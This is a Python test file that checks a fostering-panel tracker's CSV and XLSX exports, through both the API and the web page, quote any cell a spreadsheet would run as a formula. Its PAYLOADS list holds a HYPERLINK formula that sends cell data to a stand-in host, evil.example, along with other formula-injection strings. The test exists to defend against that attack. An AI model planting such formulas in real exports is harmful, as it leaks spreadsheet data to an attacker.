"""Spreadsheet formula injection (issue 10, item 4): a cell a spreadsheet would run as a
formula comes out of every tracker export (CSV and XLSX, API and page) quoted as text."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, update

from panels import exports
from panels.results import TrackerRow
from services.models import CHILDREN
from tests.conftest import Api, UserFactory
from tests.panel_support import held_meeting_with_referrals, people
from tests.web_support import WebUser

WebAs = Callable[[Api], WebUser]

PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "@SUM(A1:A9)", "\t=1")


def _row(reference: str, team: str, decision: str | None) -> TrackerRow:
    return TrackerRow(
        child_id=1,
        child_reference=reference,
        team=team,
        journey_id=1,
        journey_type="long_term_fostering",
        state="pack_submitted",
        next_deadline="panel_pack",
        next_deadline_due=date(2026, 1, 5),
        overdue_deadlines=-1,  # a number stays a number, even a negative one
        last_decision=decision,
        last_decision_on=None,
        open_actions=0,
        next_action_due=None,
        next_review_on=None,
        review_weeks=None,
        rag="green",
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("P-0001", "P-0001"),
        ("a=1", "a=1"),
        ("", ""),
        (-1, -1),
        (None, None),
    ],
)
def test_spreadsheet_cell_quotes_only_what_would_be_a_formula(value: Any, expected: Any) -> None:
    assert exports.spreadsheet_cell(value) == expected


def _check_csv(text: str, expected: set[str]) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    cells = {c for r in rows[1:] for c in r}
    assert expected <= cells
    # No field anywhere starts with a formula character (a number such as -1 aside).
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [c for r in rows for c in r if c[:1] in starts and not c.lstrip("-").isdigit()]
    # Every field is quoted, so a semicolon-separated locale cannot split one.
    assert text.splitlines()[0].startswith('"Child reference","Team"')


def _check_xlsx(content: bytes, expected: set[str]) -> None:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    found = set()
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                found.add(cell.value)
    assert expected <= found


def test_tracker_exports_neutralise_every_text_cell() -> None:
    rows = [_row(p, p, p) for p in PAYLOADS]
    quoted = {"'" + p for p in PAYLOADS}
    _check_csv(exports.tracker_csv(rows), quoted)
    _check_xlsx(exports.tracker_xlsx(rows, "Panel"), quoted)
    # Numbers stay numbers in the workbook.
    sheet = load_workbook(io.BytesIO(exports.tracker_xlsx(rows, "Panel"))).active
    assert sheet is not None
    overdue = next(c for c in sheet[1] if c.value == "Overdue").column
    assert sheet.cell(row=2, column=overdue).value == -1


def test_tracker_downloads_neutralise_stored_text(
    engine: Engine, make_user: UserFactory, web_as: WebAs
) -> None:
    # The service's own validation keeps these out of references and team names today, so
    # they are written straight to the table, as an import or older data could have them.
    cast = people(make_user)
    ready = held_meeting_with_referrals(cast, n=2)
    hostile = [(PAYLOADS[0], PAYLOADS[1]), (PAYLOADS[2], PAYLOADS[3])]
    with engine.begin() as conn:
        for referral, (reference, team) in zip(ready.referrals, hostile, strict=True):
            conn.execute(
                update(CHILDREN)
                .where(CHILDREN.c.id == referral["child_id"])
                .values(reference=reference, team=team)
            )
    quoted = {"'" + p for p in PAYLOADS}

    api_csv = cast.admin.get("/panel/tracker?format=csv")
    assert api_csv.status_code == 200
    _check_csv(api_csv.text, quoted)
    api_xlsx = cast.admin.get("/panel/tracker?format=xlsx")
    assert api_xlsx.status_code == 200
    _check_xlsx(api_xlsx.content, quoted)

    admin = web_as(cast.admin)
    page_csv = admin.get("/panel/tracker.csv")
    assert page_csv.status_code == 200
    _check_csv(page_csv.text, quoted)
    page_xlsx = admin.get("/panel/tracker.xlsx")
    assert page_xlsx.status_code == 200
    _check_xlsx(page_xlsx.content, quoted)
